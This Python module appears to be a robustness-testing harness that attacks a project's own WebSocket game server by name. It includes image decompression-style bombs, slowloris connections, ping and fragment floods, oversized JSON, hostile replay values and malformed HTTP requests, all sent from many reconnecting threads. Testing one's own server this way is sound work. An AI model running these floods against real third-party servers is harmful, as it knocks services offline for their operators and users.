"""Attacks on the page's server, each by name: what a hostile player sends, over plain sockets.

    python -m experiments.trust.attacks NAME HOST:PORT SECONDS

Messages are prepared before they are sent, so that an attacker costs the server's machine little time of its own. When
the server closes a connection, the attacker opens another one at once.
"""

import base64
import contextlib
import io
import itertools
import json
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from PIL import Image

_CONTINUATION, _TEXT, _BINARY, _PING = 0, 1, 2, 9
"""Opcodes of WebSocket frames."""
_MANY = 1 << 20
"""Number of bytes that an attacker sends or reads at a time."""


def pack_message(payload: bytes, opcode: int = _TEXT, is_last: bool = True) -> bytes:
    """Return a client's WebSocket frame; its mask is zero, which leaves the payload as it is."""
    size = len(payload)
    head = bytes([opcode | (0x80 if is_last else 0)])
    if size < 126:
        head += bytes([0x80 | size])
    elif size < 1 << 16:
        head += bytes([0x80 | 126]) + struct.pack(">H", size)
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", size)
    return head + bytes(4) + payload


def pack_command(**command: Any) -> bytes:
    """Return the frame of a command of the page."""
    return pack_message(json.dumps(command).encode())


def join_game(address: str) -> socket.socket:
    """Open a WebSocket as a player and return it after the handshake, with a time limit of five seconds."""
    host, port = address.split(":")
    opened = socket.create_connection((host, int(port)), timeout=5)
    head = (
        f"GET /play HTTP/1.1\r\nHost: {address}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    opened.sendall(head.encode())
    opened.recv(_MANY)
    return opened


def read_away(opened: socket.socket, seconds: float) -> None:
    """Read and forget what the server sends, until it has sent nothing for some seconds.

    Raises:
        ConnectionError: If the server has closed the connection.
    """
    opened.settimeout(seconds)
    with contextlib.suppress(TimeoutError):
        while True:
            if not opened.recv(_MANY):
                raise ConnectionError("the server has closed the connection")


def draw_grey(width: int, height: int) -> bytes:
    """Return a grey PNG, which is small however many pixels it has."""
    file = io.BytesIO()
    Image.new("L", (width, height), 128).save(file, "PNG")
    return file.getvalue()


class Players:
    """Hostile players who send messages for a number of seconds, each over a connection of its own.

    Args:
        address: Host and port of the server.
        seconds: Time after which they leave.
    """

    def __init__(self, address: str, seconds: float) -> None:
        self.address, self._end = address, time.monotonic() + seconds

    @property
    def is_over(self) -> bool:
        """Whether the time is over."""
        return time.monotonic() >= self._end

    def flood(self, count: int, messages: Iterable[bytes], first: bytes = b"", wait: float | None = None) -> None:
        """Send ``first`` and then the messages, again and again.

        Args:
            count: Number of players.
            messages: Frames to send.
            first: Frames to send at the beginning of each connection.
            wait: Seconds of silence after which an answer is taken to be complete; None does not read.
        """
        prepared = list(messages)
        self.run(count, lambda: self._flood(prepared, first, wait))

    def run(self, count: int, play: Callable[[], None]) -> None:
        """Run ``play`` in ``count`` threads until the time is over, again whenever the connection is lost."""

        def repeat() -> None:
            while not self.is_over:
                try:
                    play()
                except OSError:
                    time.sleep(0.01)

        threads = [threading.Thread(target=repeat) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _flood(self, messages: list[bytes], first: bytes, wait: float | None) -> None:
        with contextlib.closing(join_game(self.address)) as opened:
            opened.sendall(first)
            for message in itertools.cycle(messages):
                if self.is_over:
                    return
                opened.settimeout(5)
                opened.sendall(message)
                if wait is not None:
                    read_away(opened, wait)


def send_pad_bombs(players: Players) -> None:
    """Ask for padding, then send pictures of one row: a square of them is vast."""
    bombs = [pack_message(draw_grey(*size), _BINARY) for size in ((20_000, 1), (1, 20_000))]
    players.flood(4, bombs, pack_command(do="fit", **{"as": "pad"}), wait=0.5)


def send_large_pictures(players: Players) -> None:
    """Send pictures of nearly 25 megapixels."""
    players.flood(14, [pack_message(draw_grey(4_999, 4_999), _BINARY)], wait=0.5)


def open_slow_sockets(players: Players) -> None:
    """Open 300 connections that send a letter of a header now and then."""
    host, port = players.address.split(":")
    slow: list[socket.socket] = []
    while not players.is_over:
        while len(slow) < 300:
            with contextlib.suppress(OSError):
                slow.append(socket.create_connection((host, int(port)), timeout=0.2))
                slow[-1].sendall(b"GET / HTTP/1.1\r\nX: ")
                continue
            break
        kept = []
        for each in slow:
            try:
                each.sendall(b"x")
                kept.append(each)
            except OSError:
                each.close()
        slow = kept
        time.sleep(0.2)


def send_empty_fragments(players: Players) -> None:
    """Send a message in pieces of no letters."""
    pieces = pack_message(b"", _CONTINUATION, is_last=False) * (_MANY // 6)
    players.flood(4, [pieces], pack_message(b"", is_last=False))


def send_pings(players: Players) -> None:
    """Send pings, all of which want an answer."""
    players.flood(4, [pack_message(b"", _PING) * 10_000], wait=0.0001)


def send_long_texts(players: Players) -> None:
    """Send 8 MB of small JSON objects, and as many brackets as the server takes."""
    vast, replay = b"[" + b"{}," * (2_700_000) + b"{}]", b"[" + b"{}," * 30_000 + b"{}]"
    hidden = json.dumps({"do": "replay", "trajectory": replay.decode()}).encode()
    players.flood(4, [pack_message(text) for text in (vast, replay, hidden)], wait=0.05)


def send_errors(players: Players) -> None:
    """Send messages that are refused, as fast as the server takes them."""
    wrong = ("{}", "[", '{"do": "fly"}', '{"do": "step", "action": -1}', '{"do": "step", "action": 1e400}', "")
    players.flood(14, [b"".join(pack_message(each.encode()) for each in wrong) * 20], wait=0.001)


def send_restarts(players: Players) -> None:
    """Start and restart all the time, which takes the world longer than a step."""
    players.flood(14, [pack_command(do="restart")] * 20 + [pack_command(do="start")], pack_command(do="start"), 0.0005)


def send_hostile_replays(players: Players) -> None:
    """Replay trajectories with values that no world can play."""
    own, large = record_trajectory(players.address), base64.b64encode(draw_grey(4_990, 5_000)).decode()
    changes: list[dict[str, Any]] = [
        {"temperature": 1e-320},
        {"temperature": 10**400},
        {"latent_actions": [8]},
        {"latent_actions": [2**62] * 1_000},
        {"checkpoint_name": "x" * 2**20},
        {"prompt": [large] * 4},
    ]
    texts = (json.dumps({**own, **change}) for change in changes)
    players.flood(4, [pack_command(do="replay", trajectory=text) for text in texts], wait=0.05)


def play_slow_replays(players: Players) -> None:
    """Step on in replays with the most MaskGIT steps and temperatures of their own."""
    own = record_trajectory(players.address)
    temperatures = itertools.count(1)

    def play() -> None:
        text = json.dumps({**own, "maskgit_steps": 64, "temperature": 1 + next(temperatures) / 1_000})
        with contextlib.closing(join_game(players.address)) as opened:
            opened.sendall(pack_command(do="replay", trajectory=text))
            while not players.is_over:
                read_away(opened, 0.05)
                opened.sendall(pack_command(do="step", action=1))

    players.run(8, play)


def send_bad_requests(players: Players) -> None:
    """Send requests that are malformed, each over a connection of its own."""
    host, port = players.address.split(":")
    upgrade = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AA==\r\n"
    requests = [
        f"GET /starts/{'9' * 5_000}.png HTTP/1.1\r\nHost: {players.address}\r\n\r\n".encode(),
        f"GET /play HTTP/1.1\r\nHost: {players.address}\r\nOrigin: http://[::1\r\n{upgrade}\r\n".encode(),
        f"GET /static/%00%ff HTTP/1.1\r\nHost: {players.address}\r\n\r\n".encode(),
        b"\xff\xfe\r\n\r\n",
    ]
    numbers = itertools.count()

    def ask() -> None:
        with socket.create_connection((host, int(port)), timeout=5) as opened:
            opened.sendall(requests[next(numbers) % len(requests)])
            opened.recv(_MANY)

    def ask_badly() -> None:
        ask()
        with contextlib.closing(join_game(players.address)) as opened:
            opened.sendall(pack_message(b"\xff\xfe"))
            read_away(opened, 0.2)

    players.run(8, ask_badly)


def record_trajectory(address: str) -> dict[str, Any]:
    """Play a few steps as an honest player would, and return the trajectory."""
    from websockets.sync.client import connect

    with connect(f"ws://{address}/play", open_timeout=60) as player:
        player.recv()
        for command in ({"do": "start"}, {"do": "step", "action": 1}, {"do": "save", "as": "json"}):
            player.send(json.dumps(command))
            answer = player.recv()
        assert isinstance(answer, bytes)
        return dict(json.loads(answer[1:]))


def _name_attacks() -> Iterator[tuple[str, Callable[[Players], None]]]:
    yield "pad bombs", send_pad_bombs
    yield "large pictures", send_large_pictures
    yield "slow sockets", open_slow_sockets
    yield "empty fragments", send_empty_fragments
    yield "pings", send_pings
    yield "long texts", send_long_texts
    yield "errors", send_errors
    yield "restarts", send_restarts
    yield "hostile replays", send_hostile_replays
    yield "slow replays", play_slow_replays
    yield "bad requests", send_bad_requests


ATTACKS = dict(_name_attacks())
"""Name of each attack -> the function that makes it."""


def main() -> None:
    """Attack a server as the command line says."""
    name, address, seconds = sys.argv[1:]
    os.nice(19)  # an attacker's own work should not look like the server's
    ATTACKS[name](Players(address, float(seconds)))


if __name__ == "__main__":
    main()
